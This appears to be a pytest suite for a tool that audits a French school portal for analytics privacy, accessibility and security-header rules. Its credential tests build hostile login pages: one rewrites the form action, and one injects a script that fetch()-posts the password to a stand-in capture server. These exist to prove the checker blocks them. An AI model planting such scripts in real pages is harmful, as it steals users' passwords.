"""The portal probe family in a real headless Chromium against the reference portal (no mocks)."""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
import yaml

from probes.portal import PROBES, browser_missing
from probes.portal.accessibility import _period_problem, _plan_problem, axe_path
from probes.portal.audience import hit_parameters, properties, reversibility
from probes.portal.browser import _carries, chromium
from probes.portal.common import PortalSection, personal_strings
from probes.portal.headers import csp_problem, framing_problem, referrer_problem
from probes.portal.signin import sign_in
from probes.portal.visit import MASK_PAGE, forget_visits, shared_visit
from sdet_check.api import RunRequest, evaluate
from sdet_check.browser_env import CHROMIUM_ENV
from sdet_check.demo.pki import ensure_pki
from sdet_check.demo.portal import PortalConfig, PortalServer, add_portal_browsing, write_target
from sdet_check.demo.portal_site import SiteFlaws
from sdet_check.login import UnsafeCredentialsDestination
from sdet_check.probe import (
    NotTestable,
    Outcome,
    Probe,
    ProbeContext,
    ProbeTimeout,
    Status,
)
from sdet_check.target import load_target
from tests.capture import CaptureServer

UAI = "0751234J"
BY_KIND = {probe.kind: probe for probe in PROBES}


def need_browser() -> None:
    """Skip without Chromium or Playwright, except in CI where it must fail."""
    missing = browser_missing()
    if missing is None and not axe_path().is_file():
        missing = f"axe-core absent ({axe_path()}) : npm ci --prefix vendor/axe"
    if missing is None:
        return
    if os.environ.get("CI") or os.environ.get("SDET_CHECK_REQUIRE_BROWSER"):
        pytest.fail(missing)
    pytest.skip(missing)


@pytest.fixture(scope="module")
def pki_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("pki")


def portal_context(
    portal: PortalServer,
    folder: Path,
    deadline_s: float = 90.0,
    extra_service: str | None = None,
    **portal_keys: Any,
) -> ProbeContext:
    file = write_target(folder / "target.yaml", portal)
    data = yaml.safe_load(file.read_text(encoding="utf-8"))
    environ: dict[str, str] = {}
    add_portal_browsing(data, portal, environ, UAI)
    data["portal"].update(portal_keys)
    if extra_service is not None:  # the target declares a service the pupil's menu lacks
        data["portal"]["profiles"]["eleve"]["services"].append(extra_service)
    file.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    forget_visits()
    return ProbeContext(load_target(file, environ), 10.0, time.monotonic() + deadline_s)


def decide(probe: type[Probe], context: ProbeContext) -> Outcome:
    return probe().check({}, context)


def all_outcomes(context: ProbeContext) -> dict[str, Outcome]:
    return {probe.kind: decide(probe, context) for probe in PROBES}


@pytest.fixture(scope="module")
def conformant_outcomes(
    pki_dir: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[dict[str, Outcome]]:
    need_browser()
    with PortalServer(PortalConfig.conformant(), pki_dir) as portal:
        yield all_outcomes(portal_context(portal, tmp_path_factory.mktemp("ok")))


BROKEN = SiteFlaws(
    tag_missing="EXPLOITANT",
    wrong_profil=True,
    visitor_id="charcodes",
    tiers_not_marked=True,
    image_without_alt=True,
    no_labels=True,
    no_lang=True,
    no_csp=True,
    open_private_pages=True,
    page_without_logout=True,
    no_accessibility_schema=True,
)


@pytest.fixture(scope="module")
def broken_outcomes(
    pki_dir: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[dict[str, Outcome]]:
    need_browser()
    with PortalServer(PortalConfig(site=BROKEN), pki_dir) as portal:
        context = portal_context(portal, tmp_path_factory.mktemp("ko"), extra_service="Absences")
        yield all_outcomes(context)


# --- the reference portal, conformant and broken ------------------------------------------


def test_the_conformant_portal_passes_every_portal_probe(
    conformant_outcomes: dict[str, Outcome],
) -> None:
    statuses = {kind: outcome.status for kind, outcome in conformant_outcomes.items()}
    assert statuses == dict.fromkeys(BY_KIND, Status.PASS)
    services = conformant_outcomes["portal.services_by_profile"]
    shots = [e.data for e in services.evidence if "screenshot_jpeg_base64" in e.data]
    assert len(shots) == 3  # one masked screenshot per profile
    assert "critères automatisables" in conformant_outcomes["portal.a11y_images"].message


BROKEN_EXPECTED = {
    "portal.audience_properties": "EXPLOITANT absente",
    "portal.audience_pseudonym": "codes des caractères",
    "portal.audience_profile": "PROFIL=ELEVE",
    "portal.audience_tiers": "sans TYPE=TIERS",
    "portal.a11y_lang": "langue par défaut",
    "portal.a11y_images": "alternative textuelle",
    "portal.a11y_forms": "/login",
    "portal.csp": "politique CSP",
    "portal.framing": "inclusion en cadre",
    "portal.referrer_policy": "référent",
    "portal.logout": "/services/messagerie",
    "portal.private_pages": "/eleve/",
    "portal.a11y_schema": "aucun lien vers le schéma pluriannuel",
    "portal.services_by_profile": "eleve\u00a0: manquent Absences",
}


def test_each_broken_variant_fails_with_its_evidence(
    broken_outcomes: dict[str, Outcome],
) -> None:
    for kind, words in BROKEN_EXPECTED.items():
        outcome = broken_outcomes[kind]
        assert outcome.status == Status.FAIL, (kind, outcome.message)
        assert words in outcome.message, (kind, outcome.message)
        assert outcome.evidence, kind
    unaffected = set(BY_KIND) - set(BROKEN_EXPECTED)
    assert {broken_outcomes[k].status for k in unaffected} == {Status.PASS}
    # Evidence names the offending property, the axe rule and element, the header.
    hit = broken_outcomes["portal.audience_properties"].evidence[0].data
    assert "EXPLOITANT" not in hit["properties"] and hit["properties"]["UAI"] == UAI
    axe = broken_outcomes["portal.a11y_images"].evidence[0].data
    assert axe["rule"] == "image-alt" and "img" in axe["nodes"][0]["html"]
    assert axe["rgaa"] == ["1.1"]
    header = broken_outcomes["portal.csp"].evidence[0].data
    assert header["headers"] == {"content-security-policy": None}
    pseudonym = json.dumps(
        [e.to_json() for e in broken_outcomes["portal.audience_pseudonym"].evidence]
    )
    assert "lea.martin" not in pseudonym.split('"properties"')[0]


@pytest.mark.parametrize("flaw", ["stalled_page", "looping_script"])
def test_a_page_that_never_ends_is_an_error_within_the_deadline(
    flaw: str, pki_dir: Path, tmp_path: Path
) -> None:
    need_browser()
    with PortalServer(PortalConfig(site=SiteFlaws(**{flaw: True})), pki_dir) as portal:
        context = portal_context(portal, tmp_path, deadline_s=20.0)
        started = time.monotonic()
        path = "/services/lent" if flaw == "stalled_page" else "/services/boucle"
        with pytest.raises(ProbeTimeout, match=f"{path} ne finit pas .* délai de la sonde"):
            decide(BY_KIND["portal.audience_tag"], context)
        assert time.monotonic() - started < 23.0
        # The other probes get the same answer at once, not a second wait.
        with pytest.raises(ProbeTimeout):
            decide(BY_KIND["portal.logout"], context)


# --- the credentials rule in a real browser -----------------------------------------------


def hostile_page(action: str, script: str = "") -> bytes:
    return (
        "<!doctype html><html lang=fr><head><title>Connexion</title></head><body>"
        f'<form method="post" action="{action}"><label for=u>Identifiant</label>'
        '<input id=u name="login"><label for=p>Mot de passe</label>'
        '<input id=p type="password" name="password"><button>OK</button></form>'
        f"<script>{script}</script></body></html>"
    ).encode()


def hostile_context(portal: CaptureServer, folder: Path, password: str) -> ProbeContext:
    """A target for ``portal``; its CA is the test PKI of ``folder / "pki-hostile"``."""
    base = portal.url("127.0.0.1", "/")
    data = {
        "format": 1,
        "name": "Portail hostile",
        "portal": {
            "url": base,
            "login_url": base + "login",
            "public_pages": [base + "login"],
            "profiles": {"eleve": {"pages": [base + "espace"]}},
        },
        "accounts": [{"profile": "eleve", "login": "lea", "password_env": "SDET_PORTAL_PWD"}],
        "tls": {"ca_file": str(ensure_pki(folder / "pki-hostile").ca_file)},
    }
    file = folder / "hostile.yaml"
    file.write_text(yaml.safe_dump(data), encoding="utf-8")
    forget_visits()
    target = load_target(file, {"SDET_PORTAL_PWD": password})
    return ProbeContext(target, 5.0, time.monotonic() + 40.0)


@pytest.mark.parametrize("case", ["foreign_host", "plain_http", "script_moves_action"])
def test_a_form_sending_the_password_elsewhere_sends_nothing(case: str, tmp_path: Path) -> None:
    need_browser()
    pki = ensure_pki(tmp_path / "pki-hostile")
    password = "Secret-" + case
    with (
        CaptureServer(pki.cert_file, pki.key_file) as foreign,
        CaptureServer() as plain,
    ):
        if case == "foreign_host":
            page = hostile_page(foreign.url("localhost"))
        elif case == "plain_http":
            page = hostile_page(plain.url("127.0.0.1"))
        else:  # the HTML says /login, the page's script moves the action away
            script = f"document.forms[0].action = {json.dumps(foreign.url('localhost'))};"
            page = hostile_page("/login", script)
        with CaptureServer(pki.cert_file, pki.key_file, login_page=page) as portal:
            context = hostile_context(portal, tmp_path, password)
            with pytest.raises(UnsafeCredentialsDestination, match="rien n'est envoyé"):
                decide(BY_KIND["portal.entry_point"], context)
            assert portal.posts() == []
        assert foreign.requests == [] and plain.requests == []
        # The capture servers do receive what is sent to them: the assertions can fail.
        requests.post(foreign.url("127.0.0.1"), data=b"x", verify=str(pki.ca_file), timeout=5)
        requests.post(plain.url("127.0.0.1"), data=b"x", timeout=5)
        assert len(foreign.requests) == 1 and len(plain.requests) == 1


def test_a_script_posting_the_password_elsewhere_is_stopped(tmp_path: Path) -> None:
    need_browser()
    pki = ensure_pki(tmp_path / "pki-hostile")
    password = "Secret-exfiltration"
    with CaptureServer(pki.cert_file, pki.key_file) as foreign:
        script = (
            "document.forms[0].addEventListener('submit', () => fetch("
            f"{json.dumps(foreign.url('localhost'))}, {{method: 'POST', mode: 'no-cors', "
            "body: document.getElementById('p').value}));"
        )
        page = hostile_page("/login", script)
        with CaptureServer(pki.cert_file, pki.key_file, login_page=page) as portal:
            context = hostile_context(portal, tmp_path, password)
            # The form itself posts to the portal's host (allowed); the script's copy is not.
            outcome = decide(BY_KIND["portal.entry_point"], context)
            assert outcome.status == Status.FAIL  # the "portal" shows its form everywhere
            assert [p.path for p in portal.posts()] == ["/login"]
            assert password.encode() in portal.posts()[0].body
            blocked = shared_visit(context).blocked
            assert len(blocked) == 1 and "localhost" in blocked[0]
        assert foreign.requests == []


def test_a_plain_http_portal_signs_in_no_one_without_the_opt_in(tmp_path: Path) -> None:
    with CaptureServer(login_page=hostile_page("/login")) as portal:
        base = portal.url("127.0.0.1", "/")
        data = {
            "format": 1,
            "name": "Plateforme de test en HTTP",
            "portal": {"url": base, "profiles": {"eleve": {"pages": [base]}}},
            "accounts": [{"profile": "eleve", "login": "lea", "password_env": "SDET_PWD"}],
        }
        file = tmp_path / "plain.yaml"
        file.write_text(yaml.safe_dump(data), encoding="utf-8")
        forget_visits()
        context = ProbeContext(
            load_target(file, {"SDET_PWD": "mot-de-passe-x"}), 5, time.monotonic() + 30
        )
        need_browser()
        with pytest.raises(NotTestable, match="allow-cleartext-credentials"):
            decide(BY_KIND["portal.logout"], context)
        assert portal.posts() == []


def test_without_chromium_the_family_says_so_in_one_line(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv(CHROMIUM_ENV, str(tmp_path / "pas-de-chromium"))
    missing = browser_missing()
    assert missing is not None and "\n" not in missing and "Chromium" in missing
    data = {"format": 1, "name": "x", "portal": {"url": "https://127.0.0.1:9/"}}
    file = tmp_path / "t.yaml"
    file.write_text(yaml.safe_dump(data), encoding="utf-8")
    forget_visits()
    context = ProbeContext(load_target(file, {}), 5, time.monotonic() + 10)
    with pytest.raises(NotTestable, match="Chromium est absent"):
        decide(BY_KIND["portal.csp"], context)


# --- pure functions -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("visitor", "expected"),
    [
        ("lea.martin", "en clair"),
        ("LEA.MARTIN", "en clair"),
        ("".join(str(ord(c)) for c in "lea.martin"), "codes des caractères"),
        ("-".join(str(ord(c)) for c in "lea.martin"), "codes des caractères"),
        (b"lea.martin".hex(), "hexadécimal"),
        ("bGVhLm1hcnRpbg==", "base64"),
        (hashlib.md5(b"lea.martin").hexdigest(), "MD5"),
        (hashlib.sha256(b"LEA.MARTIN").hexdigest(), "SHA256"),
        (hashlib.sha1(b"lea.martin").hexdigest().upper(), "SHA1"),
        (
            hashlib.sha256("".join(str(ord(c)) for c in "lea.martin").encode()).hexdigest(),
            "codes de caractères",
        ),
    ],
)
def test_reversible_visitor_identifiers_are_detected(visitor: str, expected: str) -> None:
    reason = reversibility(visitor, ["lea.martin"])
    assert reason is not None and expected in reason


def test_a_keyed_pseudonym_is_not_reported() -> None:
    keyed = hmac.new(b"secret de l'ENT", b"lea.martin", hashlib.sha256).hexdigest()
    assert reversibility(keyed, ["lea.martin", "AAF$4821037"]) is None
    assert reversibility("123456", ["lea.martin"]) is None


def test_hit_parameters_flatten_json_properties() -> None:
    hit = {
        "url": "https://c.example/hit?s=1&type=click&stc="
        + requests.utils.quote(json.dumps({"TYPE": "TIERS", "OUTIL": "X"})),
        "body": "",
    }
    assert hit_parameters(hit)["OUTIL"] == "X"
    assert properties(hit)["TYPE"] == "TIERS"  # the property written in upper case wins


def test_header_criteria() -> None:
    assert csp_problem(None) == "pas d'en-tête Content-Security-Policy"
    assert csp_problem("default-src 'self'") is None
    assert csp_problem("default-src *") == "default-src autorise « * »"
    assert "unsafe-inline" in (csp_problem("default-src 'self'; script-src 'unsafe-inline'") or "")
    assert "data:" in (csp_problem("default-src 'self' data:") or "")
    good = {"content-security-policy": "frame-ancestors 'none'", "x-frame-options": "DENY"}
    assert framing_problem(good) is None
    assert "X-Frame-Options absent" in (
        framing_problem({"content-security-policy": "frame-ancestors 'self'"}) or ""
    )
    assert "trop large" in (
        framing_problem({**good, "content-security-policy": "frame-ancestors *"}) or ""
    )
    assert referrer_problem({"referrer-policy": "no-referrer"}, "") is None
    assert referrer_problem({}, "strict-origin") is None
    assert referrer_problem({"referrer-policy": "unsafe-url"}, "") == "Referrer-Policy unsafe-url"
    assert referrer_problem({}, "") is not None


def test_screenshots_are_taken_with_personal_data_masked(pki_dir: Path, tmp_path: Path) -> None:
    need_browser()
    with PortalServer(PortalConfig.conformant(), pki_dir) as portal:
        context = portal_context(portal, tmp_path, deadline_s=40.0)
        section = PortalSection.of(context.target)
        account = section.accounts(context.target)[0]
        with chromium(context.deadline) as browser:
            page = browser.new_context(ignore_https_errors=True).new_page()
            sign_in(page, section, account, context, context.deadline, lambda _e: None)
            page.goto(section.profiles[account.profile].pages[0])
            before = page.inner_text("body")
            assert "Lea Martin" in before  # the page does show the person's name
            page.evaluate(MASK_PAGE, [list(personal_strings(account)), "███"])
            after = page.inner_text("body")
    assert "Lea Martin" not in after and account.login not in after
    assert "███" in after and "Cahier de textes" in after  # the rest stays readable


def test_accessibility_plan_periods() -> None:
    assert _period_problem("Schéma pluriannuel 2025-2027", 2026) is None
    assert _period_problem("Schéma pluriannuel 2026 à 2028", 2026) is None
    assert "plus de trois ans" in (_period_problem("Schéma 2024-2027", 2026) or "")
    assert "ne couvre pas 2026" in (_period_problem("Schéma 2021-2023", 2026) or "")
    assert "non indiquée" in (_period_problem("Schéma pluriannuel", 2026) or "")
    assert _plan_problem("Plan d'action 2026", 2026) is None
    assert "2025" in (_plan_problem("Plan d'action 2025", 2026) or "")


def test_without_chromium_the_portal_requirements_stay_not_tested(
    pki_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(CHROMIUM_ENV, str(tmp_path / "pas-de-chromium"))
    with PortalServer(PortalConfig.conformant(), pki_dir) as portal:
        context = portal_context(portal, tmp_path)
        forget_visits()
        record = evaluate(
            RunRequest(target=context.target.file, grid="sdet/6.4"),
            environ={a.password.env: a.password.reveal() for a in context.target.accounts},
        )
    portal_results = {
        e["requirement"]: e for e in record["results"] if e.get("probe", "").startswith("portal.")
    }
    assert len(portal_results) == len(PROBES)
    # Certificates and the accessibility plan need no browser.
    assert portal_results.pop("SEC-TLS-004")["status"] == "pass"
    assert portal_results.pop("A11Y-SCHEMA-001")["status"] == "pass"
    assert {e["status"] for e in portal_results.values()} == {"not_tested"}
    assert {e["message"].rstrip(".") for e in portal_results.values()} == {browser_missing()}


def test_the_route_recognises_a_password_in_a_body_or_an_address() -> None:
    assert _carries("https://x.example/?p=a%2Bb%26c", b"", "a+b&c")
    assert _carries("https://x.example/", b"login=lea&password=a+b%26c", "a b&c")
    assert _carries("https://x.example/", b'{"p": "a+b&c"}', "a+b&c")
    assert not _carries("https://x.example/?p=abc", b"abd", "a+b&c")


def test_without_axe_core_only_the_accessibility_criteria_stay_not_tested(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    need_browser()
    monkeypatch.setenv("SDET_CHECK_AXE", str(tmp_path / "pas-d-axe.js"))
    pki = ensure_pki(tmp_path / "pki-hostile")
    with CaptureServer(pki.cert_file, pki.key_file, login_page=hostile_page("/login")) as portal:
        context = hostile_context(portal, tmp_path, "mot-de-passe-x")
        with pytest.raises(NotTestable, match="axe-core absent"):
            decide(BY_KIND["portal.a11y_lang"], context)
        # The same visit still judges the headers (the capture server sends none).
        assert decide(BY_KIND["portal.csp"], context).status == Status.FAIL
